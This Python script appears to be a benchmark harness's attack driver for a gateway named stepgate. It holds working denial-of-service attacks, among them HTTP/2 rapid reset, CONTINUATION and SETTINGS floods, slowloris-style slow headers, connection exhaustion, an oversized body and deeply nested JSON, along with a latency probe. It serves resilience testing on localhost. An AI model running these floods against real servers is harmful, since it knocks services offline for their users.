"""Attacks on a running stepgate for benches/exhaustion/run.sh.

    python3 attack.py ATTACK HOST PORT SECONDS
    python3 attack.py probe HOST PORT SECONDS      # well-behaved client

Each attack runs for SECONDS, reconnecting whenever the gateway closes it.
`probe` sends GET /public on a keep-alive TLS connection (reconnecting when
closed) from 127.0.0.60 and prints "p50_ms p99_ms requests errors".
"""

import socket
import ssl
import struct
import sys
import threading
import time

HOST, PORT, SECONDS = sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
END = time.monotonic() + SECONDS


def tls(alpn="http/1.1", source="127.0.0.2"):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols([alpn])
    raw = socket.create_connection((HOST, PORT), timeout=10, source_address=(source, 0))
    return ctx.wrap_socket(raw, server_hostname="localhost")


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def block(path=b"/public"):
    return (literal(b":method", b"GET") + literal(b":scheme", b"https")
            + literal(b":authority", b"localhost") + literal(b":path", path))


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)


def h2_loop(batch):
    """Sends batch(i) on h2 connections until time is up."""
    while time.monotonic() < END:
        try:
            s = tls("h2")
            s.sendall(PREFACE)
            i = 0
            while time.monotonic() < END:
                s.sendall(batch(i))
                i += 1
        except OSError:
            pass


def rapid_reset():
    def batch(i):
        out = b""
        for k in range(100):
            sid = 2 * (i * 100 + k) + 1
            out += frame(1, 0x5, sid, block()) + frame(3, 0, sid, struct.pack(">I", 8))
        return out
    h2_loop(batch)


def continuation():
    def batch(i):
        out = frame(1, 0x1, 1, block()) if i == 0 else b""
        return out + frame(9, 0, 1, literal(b"x-pad", b"a" * 100)) * 100
    h2_loop(batch)


def settings():
    # Never reads the ACKs; one connection is stuck once buffers fill, so
    # keep several going.
    def one():
        h2_loop(lambda i: frame(4, 0, 0, struct.pack(">HI", 3, 100)) * 1000)
    threads = [threading.Thread(target=one, daemon=True) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()


def idle(n=5000):
    conns = []
    for i in range(n):
        try:
            conns.append(socket.create_connection((HOST, PORT), source_address=(f"127.0.1.{2 + i % 10}", 0)))
        except OSError:
            pass
    while time.monotonic() < END:
        time.sleep(0.2)


def slow_headers(n=200):
    conns = []
    for _ in range(n):
        try:
            s = tls()
            s.sendall(b"POST /api/transfers HTTP/1.1\r\nhost: localhost\r\n")
            conns.append(s)
        except OSError:
            pass
    while time.monotonic() < END:
        for s in list(conns):
            try:
                s.sendall(b"x-a: b\r\n")
            except OSError:
                conns.remove(s)
                try:
                    conns.append(tls())
                except OSError:
                    pass
        time.sleep(0.5)


def huge_body():
    head = (b"POST /api/transfers HTTP/1.1\r\nhost: localhost\r\ncookie: SESSIONID=huge\r\n"
            b"content-type: application/json\r\ncontent-length: 10737418240\r\n\r\n")
    chunk = b" " * 65536
    while time.monotonic() < END:
        try:
            s = tls()
            s.sendall(head)
            while time.monotonic() < END:
                s.sendall(chunk)
        except OSError:
            pass


def hold_flood():
    body = b'{"amount":1}'
    n = 0
    while time.monotonic() < END:
        n += 1
        try:
            s = tls(source=f"127.0.0.{2 + n % 48}" if n % 48 != 1 else "127.0.0.50")
            s.sendall(b"POST /api/transfers HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n"
                      + f"cookie: SESSIONID=flood-{n}\r\ncontent-type: application/json\r\n".encode()
                      + f"content-length: {len(body)}\r\n\r\n".encode() + body)
            while s.recv(65536):
                pass
            s.close()
        except OSError:
            pass


def long_query():
    q = b"a" * (1 << 20)
    while time.monotonic() < END:
        try:
            s = tls()
            s.sendall(b"GET /public?q=" + q + b" HTTP/1.1\r\nhost: localhost\r\n\r\n")
            while s.recv(65536):
                pass
        except OSError:
            pass


def nested_json():
    body = b"[" * 100000 + b"]" * 100000
    while time.monotonic() < END:
        try:
            s = tls()
            s.sendall(b"POST /api/transfers HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n"
                      b"cookie: SESSIONID=deep\r\ncontent-type: application/json\r\n"
                      + f"content-length: {len(body)}\r\n\r\n".encode() + body)
            while s.recv(65536):
                pass
        except OSError:
            pass


def probe():
    lat, errors = [], 0
    s = None
    req = b"GET /public HTTP/1.1\r\nhost: localhost\r\n\r\n"
    while time.monotonic() < END:
        t0 = time.perf_counter()
        try:
            if s is None:
                s = tls(source="127.0.0.60")
            s.sendall(req)
            buf = b""
            while b"\r\n\r\n" not in buf:
                got = s.recv(65536)
                if not got:
                    raise OSError("closed")
                buf += got
            head, rest = buf.split(b"\r\n\r\n", 1)
            length = 0
            for line in head.split(b"\r\n")[1:]:
                k, _, v = line.partition(b":")
                if k.strip().lower() == b"content-length":
                    length = int(v)
            while len(rest) < length:
                rest += s.recv(65536)
            if not head.startswith(b"HTTP/1.1 200"):
                errors += 1
            lat.append((time.perf_counter() - t0) * 1000)
        except OSError:
            errors += 1
            s = None
        time.sleep(0.01)
    lat.sort()
    p = lambda q: lat[min(len(lat) - 1, int(q * len(lat)))] if lat else float("nan")
    print(f"{p(0.5):.2f} {p(0.99):.2f} {len(lat)} {errors}")


ATTACKS = {f.__name__.replace("_", "-"): f for f in
           [rapid_reset, continuation, settings, idle, slow_headers, huge_body,
            hold_flood, long_query, nested_json, probe]}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]]()
